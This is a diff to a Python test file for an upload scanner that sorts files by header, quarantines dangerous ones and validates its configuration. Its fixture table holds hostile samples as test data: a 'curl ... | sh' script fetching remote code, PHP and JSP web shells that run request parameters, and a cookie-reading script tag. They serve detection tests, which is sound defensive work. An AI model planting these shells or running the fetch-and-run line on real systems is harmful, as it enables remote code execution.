@@ -119,11 +119,14 @@ HEADERS = [
      h("cffaedfe 07000001 03000000 02000000 10000000 58050000 85002000 00000000")),
     ("sh", "script", "text/x-shellscript", b"#!/bin/sh\nset -e\ncurl -s http://203.0.113.9/x | sh\n"),
     ("php", "php", "text/x-php", b"<?php system($_GET['cmd']); ?>\n"),
-    ("html", "html", "text/html", b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"),
-    ("jsp", "server-page", None, b'<%@ page import="java.util.*,java.io.*"%>\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n'),
+    ("html", "html", "text/html",
+     b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"),
+    ("jsp", "server-page", None,
+     b'<%@ page import="java.util.*,java.io.*"%>\n<% Runtime.getRuntime().exec(request.getParameter("c")); %>\n'),
     ("aspx", "server-page", None, b'<%@ Page Language="C#" %>\n<% Response.Write("x"); %>\n'),
     ("js", "javascript", None, b"(function () {\n  fetch('/gradio_api/upload');\n})();\n"),
 ]
+MAGIC_ROWS = [row for row in HEADERS if row[2]]
 MEDIA_ROWS = [row for row in HEADERS if us.TYPES[row[1]].family == us.MEDIA]
 DANGEROUS_ROWS = [row for row in HEADERS if us.TYPES[row[1]].family == us.DANGEROUS]
 POLICY = us.Policy()
@@ -140,7 +143,7 @@ def test_sniff_real_headers(ext, kind, _magic, head):
 
 
 @pytest.mark.skipif(shutil.which("file") is None, reason="libmagic's file(1) is not installed")
-@pytest.mark.parametrize(("ext", "kind", "magic", "head"), [r for r in HEADERS if r[2]], ids=ids([r for r in HEADERS if r[2]]))
+@pytest.mark.parametrize(("ext", "kind", "magic", "head"), MAGIC_ROWS, ids=ids(MAGIC_ROWS))
 def test_libmagic_agrees_on_the_table(tmp_path, ext, kind, magic, head):
     """The table holds real headers: Debian's libmagic names the same type for the same bytes."""
     path = tmp_path / f"sample.{ext}"
@@ -432,7 +435,7 @@ def test_unreadable_file(tree, monkeypatch):
             raise PermissionError(13, "Permission denied")
         return real_open(name, flags, *args, **kwargs)
 
-    monkeypatch.setattr(us.os, "open", refusing_open)
+    monkeypatch.setattr(us, "_os_open", refusing_open)
     _counts, results = us.scan([str(tree / "uploads")], us.Policy())
     assert {r["path"]: r["verdict"] for r in results}[str(path)] == us.UNREADABLE
 
@@ -445,22 +448,24 @@ def test_files_vanishing_or_changing_during_the_scan(tree, monkeypatch):
     def racing_read(fd, size):
         state["n"] += 1
         if state["n"] == 1:
-            (up / "voice.wav").unlink()  # vanishes before it is opened
+            victim = "clip.mp4" if os.readlink(f"/proc/self/fd/{fd}").endswith("voice.wav") else "voice.wav"
+            state["victim"] = str(up / victim)
+            (up / victim).unlink()  # vanishes before it is opened
         return real_read(fd, size)
 
-    monkeypatch.setattr(us.os, "read", racing_read)
+    monkeypatch.setattr(us, "_os_read", racing_read)
     counts, results = us.scan([str(up)], us.Policy())
     paths = [r["path"] for r in results]
-    assert str(up / "voice.wav") not in paths and counts["scanned"] == 3
+    assert state["victim"] not in paths and counts["scanned"] == 3
 
     # Truncated between stat and read: left for the next scan.
     (up / "big.mp4").write_bytes(HEADERS[0][3] + b"\0" * 20000)
 
     def shrinking_read(fd, size):
         data = real_read(fd, size)
-        return data[:10] if len(data) > 8000 else data
+        return data[:10] if len(data) == us.WINDOW else data
 
-    monkeypatch.setattr(us.os, "read", shrinking_read)
+    monkeypatch.setattr(us, "_os_read", shrinking_read)
     _counts, results = us.scan([str(up)], us.Policy())
     assert {r["path"]: r["verdict"] for r in results}[str(up / "big.mp4")] == us.CHANGED
 
@@ -496,7 +501,7 @@ def test_reads_only_the_window(tree, monkeypatch):
         sizes.append(size)
         return real_read(fd, size)
 
-    monkeypatch.setattr(us.os, "read", counting_read)
+    monkeypatch.setattr(us, "_os_read", counting_read)
     us.scan([str(tree / "uploads")], us.Policy(window=4096))
     assert sizes and max(sizes) == 4096 and len(sizes) == 5
 
@@ -527,6 +532,25 @@ def test_cli_scan_list_release_expire(tree, capsys):
     assert not (tree / "uploads" / "voice.wav").exists()
     assert us.cli(["release", "nope", "--quarantine-dir", str(tree / "quarantine")], out=io.StringIO()) == 2
     assert "not a quarantine id" in capsys.readouterr().err
+
+
+@pytest.mark.parametrize(("entry", "message"), [
+    (dict(path="/srv/up", retention_days=7, max_size="200m"), None),
+    (dict(path="relative"), "absolute path"),
+    (dict(path="/srv/up", retention_days=0), "at least 1"),
+    (dict(path="/srv/up", max_size="big"), "not a size nginx understands"),
+    (dict(path="/srv/up", action="quarantine"), "needs a quarantine directory"),
+    (dict(path="/srv/up", allowed_types=["elf"]), "cannot be allowed"),
+])
+def test_cli_check_config(tmp_path, capsys, entry, message):
+    config = tmp_path / "c.json"
+    config.write_text(json.dumps({"directories": [entry]}))
+    out = io.StringIO()
+    rc = us.cli(["check-config", str(config)], out=out)
+    if message is None:
+        assert rc == 0 and "1 directories, valid" in out.getvalue()
+    else:
+        assert rc == 2 and message in capsys.readouterr().err
 
 
 # ---------------------------------------------------------------------------
